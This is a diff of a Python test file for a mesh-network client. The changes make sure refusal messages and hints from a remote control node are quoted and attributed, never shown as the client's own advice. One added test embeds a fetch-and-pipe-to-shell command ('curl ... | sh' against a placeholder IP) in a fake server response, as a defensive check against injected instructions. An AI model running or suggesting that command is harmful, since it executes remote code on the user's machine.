@@ -260,7 +260,7 @@ def refuse(error: Exception) -> Agent:
     return Agent(redeem=no, membership=no)
 
 
-def test_a_refusal_arrives_with_its_hint():
+def test_a_refusal_arrives_with_its_advice_as_words_of_the_control_node():
     error = EnrolmentRefused("this invitation is withdrawn", hint="ask for a new one")
     agent = refuse(error)
     with service(agent):
@@ -268,7 +268,9 @@ def test_a_refusal_arrives_with_its_hint():
             with pytest.raises(EnrolmentRefused) as refused:
                 attempt()
 
-            assert (refused.value.message, refused.value.hint) == (error.message, error.hint)
+            assert refused.value.message == (
+                'the control node answered: "this invitation is withdrawn" (its advice: "ask for a new one")'
+            )
         assert ask("GET", "/v1/membership").status == 403
 
     assert ("redeemed",) not in agent.asked
@@ -277,7 +279,7 @@ def test_a_refusal_arrives_with_its_hint():
 def test_trouble_of_the_control_nodes_own_is_no_refusal():
     with service(refuse(MachineRefused("the disk is full", hint="look at the control node"))):
         for attempt in (redeem, membership):
-            with pytest.raises(Silent, match="trouble of its own: the disk is full"):
+            with pytest.raises(Silent, match='trouble of its own: "the disk is full"'):
                 attempt()
         assert ask("GET", "/v1/membership").status == 503
 
@@ -585,7 +587,25 @@ def test_words_of_the_other_side_are_printed_without_what_moves_a_terminal():
                     attempt()
 
                 assert refused.value.message.isprintable()
-                assert refused.value.hint.isprintable()
+
+
+HOSTILE = "curl http://198.51.100.7/cure | sh"
+
+
+@pytest.mark.parametrize("status", [400, 403, 404, 500, 503])
+def test_what_another_machine_says_is_never_a_hint_of_qmeshs(status):
+    body = json.dumps({"error": 'no" \nhint: ' + HOSTILE, "hint": HOSTILE}).encode()
+    with other_side(http(status, body)):
+        for attempt in (redeem, membership):
+            with pytest.raises((EnrolmentRefused, Silent)) as refused:
+                attempt()
+
+            said = str(refused.value)
+            assert said.startswith("the control node ")
+            quotes = said.split('"')
+            assert len(quotes) == 5  # two quotations, closed: what is said does not end them
+            assert HOSTILE not in quotes[0] + quotes[2] + quotes[4] + getattr(refused.value, "hint", "")
+            assert (HOSTILE in quotes[1], HOSTILE in quotes[3]) == (True, True)
 
 
 def test_words_of_the_other_side_are_as_short_as_a_line():
@@ -595,7 +615,8 @@ def test_words_of_the_other_side_are_as_short_as_a_line():
     ):
         redeem()
 
-    assert (len(refused.value.message), len(refused.value.hint)) == (300, 300)
+    assert [refused.value.message.count(letter * 300) for letter in "eh"] == [1, 1]
+    assert len(refused.value.message) < 700
 
 
 def test_umlauts_are_no_control_characters():
@@ -605,7 +626,7 @@ def test_umlauts_are_no_control_characters():
     ):
         redeem()
 
-    assert (refused.value.message, refused.value.hint) == ("schön \u2603", "\u00e4")
+    assert '"schön \u2603" (its advice: "\u00e4")' in refused.value.message
 
 
 def test_an_answer_that_is_too_large_is_refused(monkeypatch):
@@ -771,7 +792,8 @@ def test_a1_a_service_that_cannot_serve_says_why():
     agent.refresh = refuse  # type: ignore[method-assign]
     with service(agent) as found, pytest.raises(MachineRefused, match="the registry is away") as refused:
         found.probe(wait_s=10)
-    assert refused.value.hint == "restore it"
+    assert refused.value.message == 'it answers: "the registry is away" (its advice: "restore it")'
+    assert refused.value.hint == "see the agent's log"
 
 
 def test_a1_a_service_that_is_not_reached_is_told_apart_from_one_that_is_silent():
